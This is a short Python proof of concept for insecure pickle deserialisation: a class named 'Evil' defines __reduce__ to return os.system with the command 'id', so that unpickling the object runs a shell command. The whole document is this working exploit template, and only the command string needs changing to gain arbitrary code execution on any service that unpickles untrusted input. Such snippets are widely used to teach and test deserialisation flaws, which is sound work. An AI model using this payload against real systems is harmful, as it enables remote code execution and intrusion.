import os, pickle
class Evil:
    def __reduce__(self):
        return (os.system, ('id',))
pickle.loads(pickle.dumps(Evil()))
